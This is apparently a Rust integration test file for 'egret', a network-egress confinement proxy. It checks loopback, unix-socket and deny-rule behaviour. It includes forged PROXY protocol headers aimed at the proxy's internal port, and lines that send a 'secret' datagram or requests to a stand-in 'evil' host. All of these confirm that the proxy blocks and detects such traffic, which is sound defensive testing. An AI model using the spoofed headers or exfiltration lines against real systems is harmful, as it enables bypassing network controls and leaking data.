//! What stays on this machine: loopback, egret's own hidden door there, unix sockets, netlink; servers of the app; and networks
//! that are reached without egret.

use std::io::Write as _;

use serde_json::Value;

use super::{POLICY, app, app_of, python_words, run, start};
use crate::support::programs::require;
use crate::support::{Outside, eventually};

/// The ports on loopback that egret alone can have opened, as the kernel lists them (proc_net_tcp(5)).
const LISTENING: &str = r#"
def listening():
    rows = [row.split() for row in open("/proc/net/tcp").readlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and row[1].startswith("0100007F")}
"#;

/// One server on loopback that says what it is asked.
const SERVER: &str = r#"
server = socket.create_server(("127.0.0.1", 0)); PORT = server.getsockname()[1]
def attend():
    while True:
        stream, _ = server.accept(); stream.sendall(b"near"); stream.close()
threading.Thread(target=attend, daemon=True).start()
"#;

#[test]
fn loopback_and_own_addresses_are_direct() {
    let script = r#"
s = connected("127.0.0.1", PORT); print(s.recv(9), s.getpeername() == ("127.0.0.1", PORT))
print(connected("localhost", PORT).recv(9))
own = socket.create_server(("10.99.0.2", 0)); print("own", outcome(connected, *own.getsockname()))
six = socket.create_server(("::1", 0), family=socket.AF_INET6); print("six", outcome(connected, "::1", six.getsockname()[1]))
print("nobody", outcome(connected, "127.0.0.1", 1))
"#;
    let Some(scene) = run(POLICY, &format!("{SERVER}{script}")) else { return };
    scene.said("b'near' True").said("own ok").said("six ok").said("nobody ECONNREFUSED");
    assert!(scene.egret.records().is_empty(), "{:#?}", scene.egret.records());
    scene.outside.only(&[], &[]);
}

/// An interface may lose its address, which is somebody else's then, while the app and egret run.
#[test]
fn l53_an_own_address_that_has_gone_is_not_own_any_more() {
    let script = r#"
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); datagrams.connect(("10.98.0.2", 9))
print("before", outcome(connected, "10.98.0.2", 9)); os.chdir(os.environ["HOME"]); os.mkfifo("gone"); print("ready"); open("gone").read()
print("after", outcome(connected, "10.98.0.2", 9))
datagrams.send(b"secret")
print("udp", outcome(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"secret", ("10.98.0.2", 9)))
"#;
    let Some(outside) = Outside::new() else { return };
    let address = |what: &str| outside.program("ip").args(["address", what, "10.98.0.2/32", "dev", "in0"]).run();
    assert_eq!(address("add").code, 0);
    let egret = app(&outside, outside.egret(POLICY), &python_words(script)).start();
    eventually("the app is ready", || egret.stderr().contains("ready").then_some(()));
    assert_eq!(address("del").code, 0);
    std::fs::write(outside.home().join("gone"), "").expect("a FIFO");
    assert_eq!(egret.wait_exit().code(), Some(0), "{}", egret.stderr());
    let said = egret.stderr();
    assert!(said.contains("before ECONNREFUSED\n") && said.contains("after EACCES\nudp EACCES"), "{said}");
    assert_eq!(egret.record(|record| record["host"] == "10.98.0.2")["reason"], "address_not_listed");
    outside.only(&[], &[]);
}

/// The unspecified address is one of this machine's own (ip(7)), and many health checks use it.
#[test]
fn the_unspecified_address_is_this_machine() {
    let policy = "egress:\n  deny: [{ id: own, to: '10.99.0.2', ports: [9999] }, { id: none, to: '127.0.0.1', ports: [10] }]\n";
    let script = r#"
print("reached", connected("0.0.0.0", PORT).recv(9), outcome(connected, "::", 1))
# The kernel would take a bound socket to its own address.
own = socket.create_server(("10.99.0.2", 9999))
bound = tcp(); bound.bind(("10.99.0.2", 0)); print("bound", outcome(bound.connect, ("0.0.0.0", 9999)))
print("denied", outcome(connected, "0.0.0.0", 10), "other", outcome(connected, "0.0.0.0", 11))
print("door", {outcome(connected, "0.0.0.0", port) for port in listening() - KNOWN - {PORT}})
"#;
    let Some(outside) = Outside::new() else { return };
    let words = python_words(&format!("{LISTENING}KNOWN = {{3128, 3129}}\n{SERVER}{script}"));
    let egret = outside.egret(policy).listen("127.0.0.1:3128").admin("127.0.0.1:3129");
    let egret = app(&outside, egret, &words).start();
    assert_eq!(egret.wait_exit().code(), Some(0), "{}", egret.stderr());
    let said = egret.stderr();
    let expected = "reached b'near' ECONNREFUSED\nbound ECONNREFUSED\ndenied EACCES other ECONNREFUSED\ndoor {'EACCES'}";
    assert!(said.ends_with(expected), "{said}");
    outside.only(&[], &[]);
}

#[test]
fn a_deny_rule_binds_on_loopback_too() {
    let policy = "egress:\n  deny: [{ id: none, to: '127.0.0.1', ports: [1-65535] }, { id: own, to: '10.99.0.2' }]\n";
    let script = r#"
print("denied", outcome(connected, "127.0.0.1", PORT), outcome(connected, "::ffff:127.0.0.1", PORT), outcome(connected, "10.99.0.2", PORT))
print("other", outcome(connected, "127.0.0.2", 1))
"#;
    let Some(scene) = run(policy, &format!("{SERVER}{script}")) else { return };
    scene.said("denied EACCES EACCES EACCES").said("other ECONNREFUSED");
    let records = scene.egret.wait_records(3);
    for (record, rule) in records.iter().zip(["none", "none", "own"]) {
        assert_eq!((&record["reason"], &record["rule"]), (&"deny_rule".into(), &rule.into()), "{record:#}");
    }
}

/// The door knows whom to expect from the supervisor alone. What a connection says, it does not believe.
#[test]
fn l50_the_door_is_shut() {
    let script = r#"
egrets = listening() - KNOWN
print("doors", sorted(egrets)); print("door", [outcome(connected, "127.0.0.1", port) for port in egrets])
print("as another", [outcome(connected, "::ffff:127.0.0.1", port) for port in egrets], [outcome(connected, "10.99.0.2", port) for port in egrets])
print("ready"); wait()
"#;
    let Some(outside) = Outside::new() else { return };
    let egret = outside.egret(POLICY).listen("127.0.0.1:3128").admin("127.0.0.1:3129");
    let words = python_words(&format!("{LISTENING}KNOWN = {{3128, 3129}}\n{script}"));
    let egret = app(&outside, egret, &words).start();
    eventually("the app is ready", || egret.stderr().contains("ready").then_some(()));
    let said = egret.stderr();
    assert!(said.contains("door ['EACCES']\nas another ['EACCES'] ['EACCES']"), "{said}");
    let refused = egret.wait_records(3);
    assert!(refused.iter().all(|record| record["reason"] == "own_listener"), "{refused:#?}");

    let door: u16 = said.lines().find_map(|line| line.strip_prefix("doors [")?.strip_suffix(']')?.parse().ok()).expect("a port");
    for forged in [forged_v1(), forged_v2(), b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n".to_vec()] {
        let heard = knock(&outside, door, &forged);
        assert_eq!(heard, "heard b''", "to {}", forged.escape_ascii());
    }
    assert_eq!(egret.records().len(), 3, "nobody was served: {:#?}", egret.records());
    outside.only(&[], &[]);
    assert_eq!(egret.get_admin("/healthz").0, 200);
}

/// PROXY protocol, version 1 (its specification, section 2.1): who says it comes from an app that goes to an allowed address.
fn forged_v1() -> Vec<u8> {
    b"PROXY TCP4 127.0.0.1 44.0.0.7 40000 80\r\nGET / HTTP/1.1\r\nHost: good.test\r\n\r\n".to_vec()
}

/// The same, version 2 (section 2.2).
fn forged_v2() -> Vec<u8> {
    let mut head = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x7f\0\0\x01\x2c\0\0\x07\x9c\x40\0\x50".to_vec();
    head.extend(b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n");
    head
}

/// What an unconfined process of the same network hears at this port, until it is closed.
fn knock(outside: &Outside, port: u16, bytes: &[u8]) -> String {
    let script = "
import socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
try:
    s.sendall(bytes.fromhex(sys.argv[2]))
    print('heard', s.recv(100))
except ConnectionError:
    print('heard', b'')
";
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let output = outside.program("python3").args(["-c", script, &port.to_string(), &hex]).run();
    assert_eq!(output.code, 0, "{output:?}");
    output.stdout.trim().to_owned()
}

/// Who was told of the proxy may use it: it is on loopback, and judges as ever.
#[test]
fn an_app_that_uses_the_proxy_may_do_so() {
    let Some(outside) = Outside::new() else { return };
    let words =
        ["--", "sh", "-c", "curl -sS http://good.test/ >&2; curl -sS http://evil.test/ >&2; env | grep -c -i http_proxy >&2"];
    let egret = words.iter().fold(outside.egret(POLICY).arg("--confine").arg("require"), |egret, word| egret.arg(word)).start();
    assert_eq!(egret.wait_exit().code(), Some(0), "{}", egret.stderr());
    assert!(egret.stderr().contains("hello from 44.0.0.7:80 as good.test\n"), "{}", egret.stderr());
    assert!(egret.stderr().contains("evil.test:80 is refused for role default"), "{}", egret.stderr());
    let vias: Vec<Value> = egret.wait_records(2).iter().map(|record| record["via"].clone()).collect();
    assert_eq!(vias, ["forward", "forward"]);
    outside.only(&["44.0.0.7:80"], &["good.test"]);
}

#[test]
fn unix_sockets_pairs_and_netlink_work() {
    let script = r#"
os.chdir(os.environ["HOME"])
server = socket.socket(socket.AF_UNIX); server.bind("here.sock"); server.listen(1)
client = socket.socket(socket.AF_UNIX); client.connect("here.sock"); client.send(b"x"); print("unix", server.accept()[0].recv(1))
a, b = socket.socketpair(); a.send(b"y"); print("pair", b.recv(1))
import sqlite3
database = sqlite3.connect("here.db"); database.execute("create table t (a)"); database.execute("insert into t values (7)"); database.commit()
print("database", sqlite3.connect("here.db").execute("select a from t").fetchall())
shown = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True); print("netlink", "10.99.0.2" in shown.stdout, shown.returncode)
"#;
    let Some(scene) = run(POLICY, script) else { return };
    scene.said("unix b'x'").said("pair b'y'").said("database [(7,)]").said("netlink True 0");
    assert!(scene.egret.records().is_empty(), "{:#?}", scene.egret.records());
}

#[test]
fn a_server_of_the_app_is_reached_from_outside() {
    let script = r#"
import http.server
os.chdir(os.environ["HOME"]); open("page", "w").write("served")
server = http.server.ThreadingHTTPServer(("", 0), http.server.SimpleHTTPRequestHandler)
print("port", server.server_port); server.serve_forever()
"#;
    let Some(scene) = start(POLICY, script) else { return };
    let port =
        eventually("the app serves", || scene.egret.stderr().lines().find_map(|line| line.strip_prefix("port ")?.parse().ok()));
    let answer = scene.outside.fetch(port, "GET /page HTTP/1.0\r\n\r\n");
    assert!(answer.starts_with("HTTP/1.0 200") && answer.ends_with("\r\n\r\nserved"), "{answer}");
    assert_eq!(scene.outside.left(), [format!("answer from {port}")]);
    assert!(scene.egret.records().is_empty(), "{:#?}", scene.egret.records());
}

#[test]
fn nginx_serves_and_passes_on_to_loopback_and_outside() {
    let Some(outside) = Outside::new() else { return };
    let home = outside.home().display().to_string();
    let config = format!(
        "daemon off; master_process off; user root root; pid {home}/nginx.pid; error_log {home}/error.log;
events {{}}
http {{
  access_log off; client_body_temp_path {home}/b; proxy_temp_path {home}/p; fastcgi_temp_path {home}/f;
  uwsgi_temp_path {home}/u; scgi_temp_path {home}/s;
  server {{
    listen 8080;
    location /good {{ proxy_pass http://good.test/; proxy_set_header Host good.test; }}
    location /evil {{ proxy_pass http://45.0.0.66:81/; }}
    location / {{ return 200 'from nginx'; }}
  }}
}}
"
    );
    let file = outside.home().join("nginx.conf");
    std::fs::File::create(&file).and_then(|mut file| file.write_all(config.as_bytes())).expect("the directory is writable");
    let nginx = require("nginx").display().to_string();
    let egret = app(&outside, outside.egret(POLICY), &[&nginx, "-e", "stderr", "-c", &file.display().to_string()]).start();
    let ask = |path: &str| outside.fetch(8080, &format!("GET {path} HTTP/1.0\r\n\r\n"));
    eventually("nginx serves", || ask("/").contains("from nginx").then_some(()));
    for (path, says) in [("/good", "hello from 44.0.0.7:80 as good.test"), ("/evil", "502 Bad Gateway")] {
        let answer = ask(path);
        assert!(answer.contains(says), "{path}: {answer}");
    }
    let refused = egret.record(|record| record["decision"] == "deny");
    assert_eq!((&refused["host"], &refused["port"]), (&"45.0.0.66".into(), &81.into()), "{refused:#}");
    let left: Vec<String> = outside.left().into_iter().filter(|line| line.starts_with("connect ")).collect();
    assert_eq!(left, ["connect 44.0.0.7:80"]);
    assert_eq!(egret.stop().code(), Some(0), "{}", egret.stderr());
}

/// Made by the app itself, and recorded.
#[test]
fn direct_addresses_are_left_to_the_app() {
    let policy = "
direct: [45.0.0.66, 169.254.169.254]
egress:
  deny: [{ id: no, to: '45.0.0.66', ports: [5433] }]
";
    let script = r#"
s = connected(EVIL, 5432); s.sendall(b"hello"); print(s.recv(5), s.getpeername())
print(get("http://169.254.169.254/latest/"))
print("denied", outcome(connected, EVIL, 5433), "other", outcome(connected, "45.0.0.67", 5432))
"#;
    let Some(scene) = run(policy, script) else { return };
    scene.said("b'hello' ('45.0.0.66', 5432)").said("hello from 169.254.169.254:80 as 169.254.169.254");
    scene.said("denied EACCES other EACCES");
    for (host, port) in [("45.0.0.66", 5432), ("169.254.169.254", 80)] {
        let record = scene.record(host, port);
        let told = ["decision", "close", "via"].map(|field| record[field].as_str().unwrap_or("-"));
        assert_eq!(told, ["allow", "direct", "confined"], "{record:#}");
        assert_eq!((&record["address"], record["exe"].is_string()), (&format!("{host}:{port}").into(), true), "{record:#}");
    }
    scene.refused("45.0.0.66", 5433, "deny_rule");
    scene.outside.only(&["45.0.0.66:5432", "169.254.169.254:80"], &[]);
}

/// That the tap sees what leaves, and that these tests can fail.
#[test]
fn without_confinement_all_of_it_leaves() {
    let Some(outside) = Outside::new() else { return };
    let script = r#"
print(get("http://evil.test/")); print(outcome(connected, EVIL, 25))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (EVIL, 9))
"#;
    let egret = app_of(&outside, outside.egret(POLICY).arg("--confine").arg("off"), &python_words(script)).start();
    assert_eq!(egret.wait_exit().code(), Some(0), "{}", egret.stderr());
    assert!(egret.stderr().contains("hello from 45.0.0.66:80 as evil.test"), "{}", egret.stderr());
    let left = outside.left();
    for packet in ["query 44.0.0.53 evil.test A", "connect 45.0.0.66:80", "connect 45.0.0.66:25", "udp 45.0.0.66:9"] {
        assert!(left.iter().any(|line| line == packet), "{packet}: {left:?}");
    }
    assert_eq!(egret.records(), [Value::Null; 0]);
}
